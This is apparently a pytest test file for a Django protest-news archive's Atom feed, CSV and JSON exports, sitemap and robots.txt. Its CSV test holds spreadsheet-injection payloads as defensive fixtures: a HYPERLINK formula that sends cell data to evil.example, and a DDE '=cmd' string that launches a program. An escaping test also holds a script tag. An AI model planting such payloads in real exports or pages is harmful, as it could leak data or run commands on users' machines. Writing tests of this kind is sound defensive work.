"""The machine-readable views: `/search/feed/` (Atom), `/search/export.csv` and `.json`,
`/sitemap.xml` and `/robots.txt`, on the real database and index."""

import csv
import datetime as dt
import io
import json
import re
import xml.etree.ElementTree as ET
from io import StringIO

import pytest
from django.core.management import call_command
from django.db import transaction
from django.http import StreamingHttpResponse
from django.utils import timezone

from articles import search
from articles.models import Article
from articles.web.sitemaps import ArticleSitemap

from . import factories as f
from .conftest import remove_index

ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
CSV_HEADER = [
    "id",
    "title",
    "body",
    "published",
    "source",
    "cities",
    "actors",
    "country",
    "url",
    "language",
    "slug",
    "permalink",
    "query",
    "archive",
    "exported",
]


@pytest.fixture
def corpus(index):
    rfe = f.source("RFE/RL")
    tass = f.source("TASS")
    almaty = f.city("Almaty", aliases=["Alma-Ata"])
    astana = f.city("Astana", aliases=["Nur-Sultan"])
    tokayev = f.actor("Kassym-Jomart Tokayev", aliases=["Toqaev"])
    dvk = f.actor("Democratic Choice of Kazakhstan", aliases=["DVK"], kind="organisation")
    kz = f.country("Kazakhstan")
    a1 = f.article(
        "Police detain protesters in Almaty",
        "Police detained dozens of protesters.",
        published=dt.date(2019, 6, 10),
        source=rfe,
        cities=[almaty],
        actors=[tokayev],
        original_url="https://example.org/a1",
        record_id="r-1",
        countries=[kz],
    )
    a2 = f.article(
        "Rally in the capital",
        "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
        published=dt.date(2020, 2, 22),
        source=rfe,
        cities=[astana, almaty],
        actors=[tokayev, dvk],
        language="ru",
        countries=[kz],
    )
    a3 = f.article(
        "Court bans opposition movement",
        "The court banned the movement.",
        published=dt.date(2018, 3, 13),
        source=tass,
        cities=[astana],
        actors=[dvk],
    )
    draft = f.article(
        "Unreleased zeppelin report",
        "A draft about protesters and a zeppelin.",
        status="draft",
        published=dt.date(2020, 3, 1),
        source=tass,
        cities=[almaty],
        actors=[tokayev],
    )
    return {"a1": a1, "a2": a2, "a3": a3, "draft": draft}


def bulk_articles(n, *, published=dt.date(2021, 5, 1), word="Bulk"):
    """`n` published articles straight into the database, then queued for the index as every
    bulk write of the archive does."""
    created = Article.objects.bulk_create(
        [
            Article(
                title=f"{word} report {i:05d}",
                slug=f"{word.lower()}-report-{i:05d}",
                body=f"{word} protest report number {i}.",
                published=published,
                status="published",
                fingerprint=f"{word}-{i}",
            )
            for i in range(n)
        ],
        batch_size=500,
    )
    with transaction.atomic():
        search.enqueue(a.pk for a in created)


# --------------------------------------------------------------------------- feed


def feed(client, params=""):
    response = client.get("/search/feed/" + params)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    root = ET.fromstring(response.content)
    assert root.tag == f"{ATOM}feed"
    # RFC 4287: one id, title and updated per feed and per entry; an author for every entry
    # (the feed's own stands in for entries without one).
    for parent in [root, *root.findall(f"{ATOM}entry")]:
        for name in ("id", "title", "updated"):
            assert len(parent.findall(f"{ATOM}{name}")) == 1, name
        dt.datetime.fromisoformat(parent.findtext(f"{ATOM}updated"))
    assert root.findtext(f"{ATOM}author/{ATOM}name") == "Protest Archive"
    return root


def entry_titles(root):
    return [e.findtext(f"{ATOM}title") for e in root.findall(f"{ATOM}entry")]


def links(element):
    return {link.get("rel"): link.get("href") for link in element.findall(f"{ATOM}link")}


def test_feed_holds_the_search_in_order_with_full_entries(client, corpus):
    root = feed(client)
    assert root.findtext(f"{ATOM}title") == "Protest Archive: all reports"
    assert links(root) == {"alternate": "http://testserver/search/", "self": "http://testserver/search/feed/"}
    assert root.findtext(f"{ATOM}id") == "http://testserver/search/"
    assert root.findtext(f"{ATOM}updated") == "2020-02-22T00:00:00+00:00"
    assert entry_titles(root) == [
        "Rally in the capital",
        "Police detain protesters in Almaty",
        "Court bans opposition movement",
    ]
    entry = root.findall(f"{ATOM}entry")[1]
    permalink = f"http://testserver/articles/{corpus['a1'].slug}/"
    assert links(entry) == {"alternate": permalink}
    assert entry.findtext(f"{ATOM}id") == permalink
    assert entry.findtext(f"{ATOM}published") == "2019-06-10T00:00:00+00:00"
    assert entry.findtext(f"{ATOM}updated") == "2019-06-10T00:00:00+00:00"
    assert entry.findtext(f"{ATOM}author/{ATOM}name") == "RFE/RL"
    assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == ["Almaty", "Kassym-Jomart Tokayev"]
    summary = entry.find(f"{ATOM}summary")
    assert summary.get("type") == "text"
    assert summary.text == "Police detained dozens of protesters."
    rally = root.findall(f"{ATOM}entry")[0]
    assert [c.get("term") for c in rally.findall(f"{ATOM}category")] == [
        "Almaty",
        "Astana",
        "Democratic Choice of Kazakhstan",
        "Kassym-Jomart Tokayev",
    ]
    assert rally.findtext(f"{ATOM}summary") == (
        "Supporters of the DVK rallied against Toqaev. A second paragraph."
    )


def test_feed_follows_query_filters_and_sort(client, corpus):
    root = feed(client, "?q=toqaev&city=almaty&sort=oldest")
    assert root.findtext(f"{ATOM}title") == "Protest Archive: “toqaev”; city: Almaty"
    assert links(root) == {
        "alternate": "http://testserver/search/?q=toqaev&city=almaty&sort=oldest",
        "self": "http://testserver/search/feed/?q=toqaev&city=almaty&sort=oldest",
    }
    assert entry_titles(root) == ["Police detain protesters in Almaty", "Rally in the capital"]
    assert "oldest first" in root.findtext(f"{ATOM}subtitle")
    root = feed(client, "?city=astana&city=almaty&source=tass&year=2018&date_from=2018-01-01")
    assert root.findtext(f"{ATOM}title") == (
        "Protest Archive: source: TASS; city: Astana or Almaty; year: 2018; from 1 January 2018"
    )
    assert entry_titles(root) == ["Court bans opposition movement"]
    # Paging parameters do not page a feed.
    assert entry_titles(feed(client, "?page=2&per_page=1")) == entry_titles(feed(client))


def test_feed_holds_the_first_fifty_results(client, index):
    bulk_articles(55)
    titles = entry_titles(feed(client, "?sort=oldest"))
    # Same date for all: newest_first / oldest order by pk within the day.
    assert titles == [f"Bulk report {i:05d}" for i in range(50)]


def test_empty_feed_is_valid(client, corpus):
    root = feed(client, "?q=nonexistentword")
    assert entry_titles(root) == []
    assert root.findtext(f"{ATOM}title") == "Protest Archive: “nonexistentword”"


def test_feed_escapes_markup_and_keeps_text_plain(client, index):
    f.article("Title <b>bold</b> & <script>alert(1)</script>", "Body <i>x</i> & protest")
    root = feed(client)
    entry = root.find(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == "Title <b>bold</b> & <script>alert(1)</script>"
    assert entry.findtext(f"{ATOM}summary") == "Body <i>x</i> & protest"


def test_control_characters_never_break_the_feed(client, index):
    """XML 1.0 cannot hold control characters; Django's writer raised on them (a 500 for the
    feed of any search showing such a title, and for `?q=00%1b`, found by the fuzzer)."""
    almaty = f.city("Al\x07maty")
    f.article("Escape\x1b[31m report", "Body\x07 with a bell, protest.", cities=[almaty])
    root = feed(client)
    entry = root.find(f"{ATOM}entry")
    assert entry.findtext(f"{ATOM}title") == "Escape\ufffd[31m report"
    assert entry.findtext(f"{ATOM}summary") == "Body\ufffd with a bell, protest."
    assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == ["Al\ufffdmaty"]
    root = feed(client, "?q=escape%1b%01")
    assert root.findtext(f"{ATOM}title") == "Protest Archive: “escape”"
    assert len(root.findall(f"{ATOM}entry")) == 1
    response = client.get("/api/search/", {"q": "\x1bprotest\x01"})
    assert response.status_code == 200
    assert response.json()["query"]["q"] == "protest"


BAD = [
    ("?city=atlantis", "city: There is no city “atlantis”."),
    ("?date_from=2020-02-30", "date_from: Enter a real date as YYYY-MM-DD."),
    ("?date_from=2020-03-01&date_to=2020-01-01", "date_to: The end date is before the start date."),
    ("?year=20", "year: “20” is not a year (use YYYY)."),
    ("?sort=random", "sort: Sort by relevance, newest or oldest."),
    ("?colour=red", "colour: unknown parameter."),
    ("?q=%00", "q: Null characters are not allowed."),
    ("?q=" + "a" * 1001, "q: The query is too long: at most 1000 characters (it has 1001)."),
    ("?actor=%00", "actor: Null characters are not allowed."),
]


@pytest.mark.parametrize("url", ["/search/feed/", "/search/export.csv", "/search/export.json"])
@pytest.mark.parametrize("params, message", BAD)
def test_bad_parameters_answer_400_in_plain_text(client, corpus, url, params, message):
    response = client.get(url + params)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    lines = response.content.decode().splitlines()
    assert lines == ["This search has bad parameters; fix them and try again.", message]


@pytest.mark.parametrize("url", ["/search/feed/", "/search/export.csv", "/search/export.json"])
def test_unparseable_query_answers_400(client, corpus, url):
    response = client.get(url + "?q=NOT+|+NOT+NOT+|")
    assert response.status_code == 400
    assert response.content.decode().splitlines()[1].startswith("q: ")


@pytest.mark.parametrize("url", ["/search/feed/", "/search/export.csv", "/search/export.json"])
def test_text_query_without_an_index_is_503_and_filters_still_work(
    client, transactional_db, fresh_index, url
):
    f.article("Rally in the capital", published=dt.date(2020, 2, 22))
    remove_index(fresh_index)
    response = client.get(url + "?q=rally")
    assert response.status_code == 503
    assert response["Retry-After"] == "60"
    assert response.content.decode().startswith("q: Full-text search is unavailable")
    response = client.get(url + "?year=2020")
    assert response.status_code == 200
    content = read_stream(response) if response.streaming else response.content
    assert b"Rally in the capital" in content


# ------------------------------------------------------------------------ exports


def read_stream(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def export_csv(client, params=""):
    response = client.get("/search/export.csv" + params)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert re.fullmatch(
        r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.csv"',
        response["Content-Disposition"],
    )
    body = read_stream(response).decode("utf-8")
    assert body.startswith("\ufeff")  # for spreadsheets; the import reads it too
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert rows[0] == CSV_HEADER
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def export_json(client, params=""):
    response = client.get("/search/export.json" + params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert re.fullmatch(
        r'attachment; filename="protest-archive-[a-z0-9-]+-\d{8}T\d{6}Z\.json"',
        response["Content-Disposition"],
    )
    data = json.loads(read_stream(response))
    assert list(data) == ["query", "archive", "exported", "results", "count"]
    assert data["count"] == len(data["results"])
    return data


def assert_recent(stamp: str):
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", stamp)
    exported = dt.datetime.fromisoformat(stamp.replace("Z", "+00:00"))
    assert abs(timezone.now() - exported) < dt.timedelta(minutes=1)


def test_csv_export_holds_the_records_and_the_search_in_every_row(client, corpus):
    rows = export_csv(client, "?q=toqaev&city=almaty&sort=oldest")
    meta = {(r["query"], r["archive"]) for r in rows}
    assert meta == {("q=toqaev&city=almaty&sort=oldest", "http://testserver/")}
    assert len({r["exported"] for r in rows}) == 1
    assert_recent(rows[0]["exported"])
    records = [{k: v for k, v in r.items() if k not in ("query", "archive", "exported")} for r in rows]
    assert records == [
        {
            "id": "r-1",
            "title": "Police detain protesters in Almaty",
            "body": "Police detained dozens of protesters.",
            "published": "2019-06-10",
            "source": "RFE/RL",
            "cities": "Almaty",
            "actors": "Kassym-Jomart Tokayev",
            "country": "Kazakhstan",
            "url": "https://example.org/a1",
            "language": "en",
            "slug": corpus["a1"].slug,
            "permalink": f"http://testserver/articles/{corpus['a1'].slug}/",
        },
        {
            "id": "",
            "title": "Rally in the capital",
            "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
            "published": "2020-02-22",
            "source": "RFE/RL",
            "cities": "Almaty;Astana",
            "actors": "Democratic Choice of Kazakhstan;Kassym-Jomart Tokayev",
            "country": "Kazakhstan",
            "url": "",
            "language": "ru",
            "slug": corpus["a2"].slug,
            "permalink": f"http://testserver/articles/{corpus['a2'].slug}/",
        },
    ]


def test_json_export_holds_the_records_and_the_search(client, corpus):
    data = export_json(client, "?source=rfe-rl&page=3&per_page=1")
    assert data["query"] == "source=rfe-rl"  # paging does not apply to an export
    assert data["archive"] == "http://testserver/"
    assert_recent(data["exported"])
    assert data["count"] == 2
    assert data["results"] == [
        {
            "id": None,
            "title": "Rally in the capital",
            "body": "Supporters of the DVK rallied against Toqaev.\n\nA second paragraph.",
            "published": "2020-02-22",
            "source": "RFE/RL",
            "cities": ["Almaty", "Astana"],
            "actors": ["Democratic Choice of Kazakhstan", "Kassym-Jomart Tokayev"],
            "country": "Kazakhstan",
            "url": None,
            "language": "ru",
            "slug": corpus["a2"].slug,
            "permalink": f"http://testserver/articles/{corpus['a2'].slug}/",
        },
        {
            "id": "r-1",
            "title": "Police detain protesters in Almaty",
            "body": "Police detained dozens of protesters.",
            "published": "2019-06-10",
            "source": "RFE/RL",
            "cities": ["Almaty"],
            "actors": ["Kassym-Jomart Tokayev"],
            "country": "Kazakhstan",
            "url": "https://example.org/a1",
            "language": "en",
            "slug": corpus["a1"].slug,
            "permalink": f"http://testserver/articles/{corpus['a1'].slug}/",
        },
    ]


def test_exports_follow_relevance_and_filters(client, corpus):
    expected = [r["title"] for r in client.get("/api/search/?q=protesters").json()["results"]]
    assert [r["title"] for r in export_json(client, "?q=protesters")["results"]] == expected
    assert [r["title"] for r in export_csv(client, "?year=2018&year=2020")] == [
        "Rally in the capital",
        "Court bans opposition movement",
    ]
    assert [r["title"] for r in export_csv(client, "?date_from=2019-06-10&date_to=2019-06-10")] == [
        "Police detain protesters in Almaty"
    ]


def test_empty_exports_are_valid(client, corpus):
    assert export_csv(client, "?q=nonexistentword") == []
    data = export_json(client, "?q=nonexistentword")
    assert (data["results"], data["count"], data["query"]) == ([], 0, "q=nonexistentword")


def test_drafts_never_appear_anywhere(client, corpus):
    for url in [
        "/search/feed/",
        "/search/feed/?q=zeppelin",
        "/search/export.csv",
        "/search/export.csv?q=zeppelin",
        "/search/export.json",
        "/search/export.json?q=zeppelin",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        content = read_stream(response) if response.streaming else response.content
        assert b"Unreleased" not in content, url
        assert corpus["draft"].slug.encode() not in content, url
    assert entry_titles(feed(client, "?q=zeppelin")) == []
    assert export_json(client, "?q=zeppelin")["count"] == 0
    for url in ["/sitemap.xml", "/sitemap-articles.xml", "/sitemap-dates.xml"]:
        assert corpus["draft"].slug.encode() not in client.get(url).content


@pytest.mark.parametrize("params", ["", "?q=bulk", "?q=bulk&sort=oldest"])
def test_export_of_a_large_result_set_is_streamed_whole(client, index, params, django_assert_max_num_queries):
    bulk_articles(1200)
    search.rebuild()
    slugs = {f"bulk-report-{i:05d}" for i in range(1200)}
    with django_assert_max_num_queries(40):  # chunked reads, never a query per article
        response = client.get("/search/export.csv" + params)
        chunks = list(response.streaming_content)
    assert isinstance(response, StreamingHttpResponse)
    assert len(chunks) > 1  # sent in pieces as it is read, not built whole first
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert len(rows) == 1200
    assert {r["slug"] for r in rows} == slugs
    data = export_json(client, params)
    assert data["count"] == 1200
    assert [r["slug"] for r in data["results"]] == [r["slug"] for r in rows]


def test_csv_export_imports_into_an_empty_archive(client, corpus, tmp_path):
    before = export_csv(client)
    path = tmp_path / "export.csv"
    response = client.get("/search/export.csv")
    path.write_bytes(read_stream(response))
    Article.objects.all().delete()
    out = StringIO()
    call_command("import_articles", str(path), "--status", "published", stdout=out)
    assert "created 3, updated 0, unchanged 0, merged 0, failed 0" in out.getvalue()
    after = export_csv(client)
    fields = ("id", "title", "body", "published", "source", "cities", "actors", "country", "url", "language")
    assert [{k: r[k] for k in fields} for r in after] == [{k: r[k] for k in fields} for r in before]


# ------------------------------------------------------------ sitemap and robots


def sitemap_locs(client, url):
    response = client.get(url)
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    return [
        (u.findtext(f"{SITEMAP}loc"), u.findtext(f"{SITEMAP}lastmod")) for u in root.findall(f"{SITEMAP}url")
    ]


def test_sitemap_lists_published_articles_and_entities_only(client, corpus):
    lonely = f.city("Lonely City")  # named by no article
    drafted = f.actor("Only In Drafts")
    corpus["draft"].actors.add(drafted)
    index_root = ET.fromstring(client.get("/sitemap.xml").content)
    assert [s.findtext(f"{SITEMAP}loc") for s in index_root.findall(f"{SITEMAP}sitemap")] == [
        f"http://testserver/sitemap-{name}.xml"
        for name in ("articles", "sources", "cities", "actors", "countries", "dates")
    ]

    articles = sitemap_locs(client, "/sitemap-articles.xml")
    expected = sorted((corpus[k].pk, corpus[k]) for k in ("a1", "a2", "a3"))
    assert articles == [
        (f"http://testserver/articles/{a.slug}/", timezone.localdate(a.updated).isoformat())
        for _, a in expected
    ]
    cities = [loc for loc, _ in sitemap_locs(client, "/sitemap-cities.xml")]
    assert cities == ["http://testserver/cities/almaty/", "http://testserver/cities/astana/"]
    actors = [loc for loc, _ in sitemap_locs(client, "/sitemap-actors.xml")]
    assert actors == [
        "http://testserver/actors/kassym-jomart-tokayev/",
        "http://testserver/actors/democratic-choice-of-kazakhstan/",
    ]
    sources = [loc for loc, _ in sitemap_locs(client, "/sitemap-sources.xml")]
    assert sources == ["http://testserver/sources/rfe-rl/", "http://testserver/sources/tass/"]
    dates = [loc for loc, _ in sitemap_locs(client, "/sitemap-dates.xml")]
    assert dates == [
        f"http://testserver/archive/{p}/" for p in ("2018", "2019", "2020", "2018/03", "2019/06", "2020/02")
    ]
    everything = " ".join(cities + actors + sources + dates + [loc for loc, _ in articles])
    assert "?" not in everything and "/search/" not in everything
    assert lonely.slug not in everything and drafted.slug not in everything


def test_sitemap_sections_are_paginated(client, corpus, monkeypatch):
    monkeypatch.setattr(ArticleSitemap, "limit", 2)
    index_root = ET.fromstring(client.get("/sitemap.xml").content)
    locs = [s.findtext(f"{SITEMAP}loc") for s in index_root.findall(f"{SITEMAP}sitemap")]
    assert locs[:2] == [
        "http://testserver/sitemap-articles.xml",
        "http://testserver/sitemap-articles.xml?p=2",
    ]
    first = sitemap_locs(client, "/sitemap-articles.xml")
    second = sitemap_locs(client, "/sitemap-articles.xml?p=2")
    assert (len(first), len(second)) == (2, 1)
    assert client.get("/sitemap-articles.xml?p=3").status_code == 404
    assert client.get("/sitemap-articles.xml?p=x").status_code == 404
    assert client.get("/sitemap-nothing.xml").status_code == 404


def test_empty_sitemap_is_valid(client, index):
    assert sitemap_locs(client, "/sitemap-articles.xml") == []
    assert sitemap_locs(client, "/sitemap-cities.xml") == []


def robots_allows(rules: list[tuple[str, str]], path: str) -> bool:
    """RFC 9309 matching: the longest matching rule wins, `*` is a wildcard, `$` ends."""
    best = ("allow", "")
    for kind, pattern in rules:
        regex = "".join(".*" if ch == "*" else "$" if ch == "$" else re.escape(ch) for ch in pattern)
        if re.match(regex, path) and len(pattern) > len(best[1]):
            best = (kind, pattern)
    return best[0] == "allow"


def test_robots_txt_keeps_crawlers_out_of_searches_and_points_to_the_sitemap(client, index):
    response = client.get("/robots.txt")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    lines = [line.strip() for line in response.content.decode().splitlines()]
    assert "User-agent: *" in lines
    assert "Sitemap: http://testserver/sitemap.xml" in lines
    rules = [
        (k.strip().lower(), v.strip())
        for k, _, v in (line.partition(":") for line in lines)
        if k.strip().lower() in ("allow", "disallow")
    ]
    allowed = [
        "/",
        "/search/",
        "/articles/a-report/",
        "/cities/",
        "/cities/almaty/?page=2",
        "/archive/2020/06/",
        "/sitemap.xml",
    ]
    blocked = [
        "/search/?q=protest",
        "/search/?city=almaty&year=2020",
        "/search/feed/?q=x",
        "/search/export.csv",
        "/search/export.json?q=x",
        "/api/search/",
        "/api/articles/a-report/",
        "/admin/",
        "/admin/login/",
    ]
    assert [p for p in allowed if not robots_allows(rules, p)] == []
    assert [p for p in blocked if robots_allows(rules, p)] == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTabbed",
    "'=quoted already",
]


def test_csv_cells_never_run_as_spreadsheet_formulas(client, index, tmp_path):
    evil_source = f.source("=cmd|' /C calc'!A0")
    for i, title in enumerate(FORMULAS):
        f.article(
            title,
            f"Body {i} mentions protest.",
            source=evil_source,
            cities=[f.city(f"-City{i}")],
            record_id=f"=id{i}",
        )
    rows = list(csv.reader(io.StringIO(read_stream(client.get("/search/export.csv")).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + t for t in FORMULAS}
    assert {row[4] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    # The archive's own import reads them back exactly.
    out = StringIO()
    call_command("export_articles", "--format", "csv", stdout=out)
    exported = out.getvalue()
    cells = [cell for row in list(csv.reader(io.StringIO(exported)))[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    (tmp_path / "all.csv").write_text(exported, encoding="utf-8")
    Article.objects.all().delete()
    call_command("import_articles", str(tmp_path / "all.csv"), stdout=StringIO())
    # (Import collapses whitespace in titles, the tab included.)
    assert sorted(Article.objects.values_list("title", flat=True)) == sorted(
        " ".join(t.split()) for t in FORMULAS
    )
    assert set(Article.objects.values_list("source__name", flat=True)) == {"=cmd|' /C calc'!A0"}
    again = StringIO()
    call_command("export_articles", "--format", "csv", stdout=again)
    assert again.getvalue() == exported.replace("'\tTabbed", "Tabbed")


@pytest.mark.parametrize(
    "url", ["/search/", "/search/feed/", "/search/export.csv", "/search/export.json", "/api/search/"]
)
def test_year_zero_is_a_bad_parameter_everywhere(client, corpus, url):
    response = client.get(url, {"year": "0000"})
    assert response.status_code == (200 if url == "/search/" else 400)
    body = response.content.decode()
    assert "There is no year 0000: years run from 0001 to 9999." in body.replace("&#x27;", "'")
